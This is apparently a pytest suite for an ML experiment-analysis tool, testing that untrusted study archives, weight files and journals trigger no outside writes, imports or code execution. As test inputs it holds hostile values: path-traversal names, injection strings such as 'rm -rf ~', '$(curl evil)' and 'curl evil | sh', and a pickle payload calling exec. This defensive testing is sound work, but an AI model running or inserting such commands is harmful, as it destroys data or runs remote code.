"""Somebody else's archive, weights or study folder: nothing is written outside, imported, run, or printed unquoted."""

import json
import shlex
import sys
from pathlib import Path

import numpy as np
import pytest

from analysis.__main__ import main
from analysis.report.claims import write_claims
from analysis.report.reproduction import commands
from analysis.run import Options, analyse
from analysis.study import Study
from analysis.tables import diagnosis as diagnostics
from analysis.tables.settings import recommended
from runs.arguments import on_record
from runs.record.archive import read_archive, write_values
from runs.record.rows import tidy
from tests.analysis.synthetic import study

EVIL = "evil_module_of_a_stranger"


@pytest.fixture
def evil(tmp_path, monkeypatch):
    """A module that leaves a trace where it is imported."""
    (tmp_path / f"{EVIL}.py").write_text(f"from pathlib import Path\nPath({str(tmp_path / 'imported')!r}).touch()\n")
    monkeypatch.syspath_prepend(tmp_path)
    yield tmp_path / "imported"
    assert not (tmp_path / "imported").exists()
    assert EVIL not in sys.modules


def archive(folder, *, rename=None, **changes):
    rows, design = study(("vanilla", "gru"), ("adding",), points=4, name="theirs")
    rows = [{**row, **(rename or {})} for row in rows]
    write_values(tidy(rows), {**design, **changes}, folder)
    return folder / "trials.parquet"


@pytest.mark.parametrize(
    "name", ["../../outside", "/tmp/outside", "..", ".", "", "a\nb", "a b", "x" * 300, None, 3, ["a"]]
)
def test_an_archive_of_a_bad_name_writes_nothing(name, tmp_path, capsys):
    path = archive(tmp_path / "in", name=name)
    before = sorted(tmp_path.rglob("*"))
    assert main([f"from={path}", f"results={tmp_path / 'in' / 'results'}"]) == 2
    assert "is not an archive of a study: name of a study must be 1 to 64 letters" in capsys.readouterr().err
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize("column", ["study", "task", "variant", "stage"])
def test_bad_names_in_the_table_of_an_archive_are_refused(column, tmp_path):
    path = archive(tmp_path, rename={column: "../../x"})
    with pytest.raises(ValueError, match=f"column {column}: a name must be"):
        read_archive(path)


@pytest.mark.parametrize(
    "changes",
    [{"variants": ["vanilla", "$(rm)"]}, {"tasks": [{"label": "../t"}]}, {"baseline": "a;b"}, {"space": {"a b": {}}}],
)
def test_bad_names_in_the_design_of_an_archive_are_refused(changes, tmp_path):
    with pytest.raises(ValueError, match="must be 1 to 64 letters"):
        read_archive(archive(tmp_path, **changes))


def test_a_design_that_is_no_mapping_is_refused(tmp_path):
    rows, _ = study(points=2)
    write_values(tidy(rows), ["not", "a", "design"], tmp_path)
    with pytest.raises(ValueError, match="the design of a study must be a mapping"):
        read_archive(tmp_path / "trials.parquet")


# Commands to paste
# ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("python -m runs.sweep study=quick workers=2", "python -m runs.sweep study=quick workers=2"),
        ("python -m runs.sweep study=quick; rm -rf ~", "python -m runs.sweep 'study=quick;' rm -rf '~'"),
        ("python -m runs.sweep study=$(curl evil)", "python -m runs.sweep 'study=$(curl' 'evil)'"),
        ("python -m runs.sweep 'space={a: {low: 1}}'", "python -m runs.sweep 'space={a: {low: 1}}'"),
        ("python -m runs.sweep study=a\nrm -rf x", "python -m runs.sweep study=a rm -rf x"),
        ("python -m runs.sweep 'a\nrm -rf x'", ""),
        ("python -m runs.sweep a=\x1b[2J", ""),
        *(
            ("curl evil | sh", ""),
            ("python -m http.server", ""),
            ("python -m runs.sweep 'open", ""),
            ("", ""),
            (None, ""),
            (["x"], ""),
        ),
    ],
)
def test_a_command_on_record_is_of_this_suite_and_quoted(text, shown):
    assert on_record(text) == shown


@pytest.mark.parametrize(
    "commit", ["HEAD; rm -rf ~", "$(rm)", "--upload-pack=x", "deadbeef\nrm", "unknown", "", None, 3]
)
def test_a_commit_that_is_no_hash_is_not_checked_out(commit):
    assert "git" not in commands({"commit": commit, "command": ""}, "quick")


def test_a_commit_that_is_a_hash_is():
    assert commands({"commit": "0123456789ab+", "command": ""}, "quick").startswith("git checkout 0123456789ab\n")


def full_design(**changes):
    """Table and design of a study that a runner could have made."""
    rows, design = study(("vanilla", "gru"), ("adding",), points=6, name="theirs")
    nodes = {
        "vanilla": {"_target_": "variants.cells.lstm.Vanilla", "label": "vanilla"},
        "gru": {"_target_": "variants.cells.gru.GRU", "label": "gru"},
    }
    space = {
        "learning_rate": {"key": "training.learning_rate", "low": 1e-4, "high": 1e-1, "log": True},
        "size": {"key": "model.hidden_size", "low": 8, "high": 128, "log": True, "integer": True},
        "input_noise": {"key": "training.input_noise", "low": 0.0, "high": 0.5},
    }
    whole = {
        **{k: design[k] for k in ("name", "points")},
        "baseline": "vanilla",
        "match": "parameters",
        "variants": nodes,
        "space": space,
        "seed": 0,
        "sampler": "random",
        "pruner": "none",
        "tasks": {"adding": {"_target_": "tasks.synthetic.adding.Adding", "label": "adding", "lag": 50}},
        "model": {},
        "training": {},
        "initialisation": {"_target_": "variants.initialisation.GlorotOrthogonal", "label": "glorot_orthogonal"},
    }
    return tidy(rows), {**whole, **changes}


def test_a_class_that_an_archive_names_stands_in_its_command_and_is_not_imported(evil):
    table, design = full_design()
    design["variants"]["gru"] = {"_target_": f"{EVIL}.C", "label": "gru", "knob": 3}
    found = recommended(Study.of(table, design)).set_index(["variant", "rank"])["command"]
    assert f"variant._target_={EVIL}.C +variant.knob=3 variant.label=gru task=adding" in found["gru", 1]
    assert found["vanilla", 1].startswith("python -m runs variant=vanilla task=adding task.lag=50 ")


@pytest.mark.parametrize("value", ["${oc.env:STUDY_STORAGE}", "a\nb", "'", "\\", "{a}"])
def test_a_knob_that_means_more_than_itself_gives_no_command(value):
    table, design = full_design()
    design["variants"]["gru"] = {"_target_": "variants.cells.gru.GRU", "label": "gru", "knob": value}
    found = recommended(Study.of(table, design)).set_index(["variant", "rank"])["command"]
    assert found["gru", 1] == ""
    assert found["vanilla", 1]


def test_the_width_of_a_command_is_that_of_the_trial():
    table, design = full_design()
    best = recommended(Study.of(table, design)).set_index(["variant", "rank"]).loc[("gru", 1)]
    assert f"model.hidden_size={best['hidden_size']}" in shlex.split(best["command"])


# Folders, weights, diagnoses
# -----------------------------------------------------------------------------------------------


def test_the_analysis_of_a_study_folder_imports_nothing_that_its_journal_names(evil, tmp_path, capsys):
    from runs.study.storage.opening import open_storage

    _, design = full_design()
    design["variants"]["gru"] = {"_target_": f"{EVIL}.C", "label": "gru"}
    storage = open_storage("", tmp_path / "results" / "theirs")
    storage.set_study_user_attr(storage.create_new_study([1], "theirs"), "design", design)
    assert main(["study=theirs", f"results={tmp_path / 'results'}"]) == 2
    assert f"'{EVIL}.C' is no class of this suite" in capsys.readouterr().err


def test_a_journal_that_holds_a_study_of_another_name_is_refused(tmp_path, capsys):
    from runs.study.storage.opening import open_storage

    storage = open_storage("", tmp_path / "mine")
    storage.set_study_user_attr(storage.create_new_study([1], "mine"), "design", full_design()[1])
    assert main(["study=mine", f"results={tmp_path}"]) == 2
    assert "'theirs'" in capsys.readouterr().err


def test_figures_are_not_written_through_a_link(tmp_path, capsys):
    (tmp_path / "theirs").mkdir()
    (tmp_path / "outside").mkdir()
    (tmp_path / "theirs" / "figures").symlink_to(tmp_path / "outside")
    assert main([f"from={archive(tmp_path / 'in')}", f"results={tmp_path}"]) == 2
    assert "must lie inside" in capsys.readouterr().err
    assert list((tmp_path / "outside").iterdir()) == []


def test_a_link_in_the_place_of_a_file_is_replaced_and_not_followed(tmp_path):
    (tmp_path / "mine").write_text("mine")
    (tmp_path / "theirs").mkdir()
    (tmp_path / "theirs" / "trials.csv").symlink_to(tmp_path / "mine")
    archive(tmp_path / "theirs")
    assert (tmp_path / "mine").read_text() == "mine"


class Pickled:
    def __reduce__(self):
        return exec, ("raise SystemExit('unpickled')",)


@pytest.mark.parametrize("damage", ["pickle", "text", "empty", "keys"])
def test_a_diagnosis_is_not_unpickled_and_a_damaged_one_is_named(damage, tmp_path):
    path = tmp_path / "adding" / "gru.npz"
    path.parent.mkdir()
    if damage == "pickle":
        np.savez(path, about=np.array([Pickled()], dtype=object))
    elif damage == "keys":
        np.savez(path, about=np.array(json.dumps({"format": "lstm-variants diagnosis 2"})))
    else:
        path.write_text("" if damage == "empty" else "no zip")
    with pytest.raises(ValueError, match=f"{path} is not a diagnosis"):
        diagnostics.read(tmp_path)


def test_half_a_diagnosis_of_a_killed_writer_is_not_read(tmp_path):
    (tmp_path / "adding").mkdir()
    (tmp_path / "adding" / ".gru-01234567.part.npz").write_text("half")
    assert diagnostics.read(tmp_path)["gradients"].empty


@pytest.mark.parametrize("target", [f"{EVIL}.C", f"{EVIL}:C", "os.system", "antigravity.C"])
def test_weights_import_no_class_that_they_name(target, evil, tmp_path):
    from safetensors.numpy import save_file

    from runs.trial.trial import Trial
    from runs.trial.weights import FORMAT, load_model

    trial = Trial(
        variant={"_target_": target, "label": "x"},
        task={"_target_": "tasks.synthetic.adding.Adding", "label": "adding"},
        initialisation={},
    )
    about = {"format": FORMAT, "trial": json.dumps(trial.as_dict()), "outcome": "{}", "about": "{}"}
    save_file({"a": np.zeros(2)}, tmp_path / "x.safetensors", about)
    with pytest.raises(ValueError, match=r"no class of this suite|must be a subclass"):
        load_model(tmp_path / "x.safetensors")
    assert "antigravity" not in sys.modules


@pytest.mark.parametrize("trial", ["{", "[]", "{}", '{"model": {"x": 1}, "training": {}}'])
def test_weights_whose_trial_cannot_be_read_are_refused_by_name(trial, tmp_path):
    from safetensors.numpy import save_file

    from runs.trial.weights import FORMAT, load_model

    path = tmp_path / "x.safetensors"
    save_file({"a": np.zeros(2)}, path, {"format": FORMAT, "trial": trial, "outcome": "{}", "about": "{}"})
    with pytest.raises(ValueError, match=f"{path}"):
        load_model(path)


# Writing
# -------------------------------------------------------------------------------------------------------------------


def test_an_analysis_with_out_only_reads_the_results(tmp_path, monkeypatch):
    monkeypatch.setattr("analysis.figures.gallery.FIGURES", [])
    results, out = tmp_path / "results", tmp_path / "out"
    path = archive(results / "theirs")
    before = {p: p.stat().st_mtime_ns for p in (results, *results.rglob("*"))}
    report = analyse(Options(study="theirs", results=results, archive=path, out=out))[-1]
    assert report == out / "theirs" / "report.html"
    assert (out / "claims.html").is_file()
    assert {p: p.stat().st_mtime_ns for p in (results, *results.rglob("*"))} == before


def test_an_analysis_that_cannot_write_says_where_and_what_to_do(tmp_path, capsys):
    path = archive(tmp_path / "in")
    (tmp_path / "results").touch()
    assert main([f"from={path}", f"results={tmp_path / 'results'}"]) == 2
    assert capsys.readouterr().err == (
        f"error: results: cannot write into {tmp_path}/results/theirs: Not a directory; out=FOLDER writes elsewhere\n"
    )


def test_an_archive_that_cannot_be_written_leaves_the_one_before(tmp_path, monkeypatch):
    path = archive(tmp_path)
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}

    def full(self, target):
        raise OSError(28, "No space left on device", str(target))

    monkeypatch.setattr(Path, "replace", full)
    with pytest.raises(OSError, match="No space left"):
        archive(tmp_path, name="other")
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before
    assert read_archive(path).design.name == "theirs"


def test_a_claims_table_that_is_cut_off_is_left_out_with_its_name(tmp_path, capsys):
    (tmp_path / "half").mkdir()
    (tmp_path / "half" / "claims.csv").write_text("source,cla")
    assert write_claims(tmp_path).is_file()
    assert f"{tmp_path}/half/claims.csv is left out of claims.html" in capsys.readouterr().err
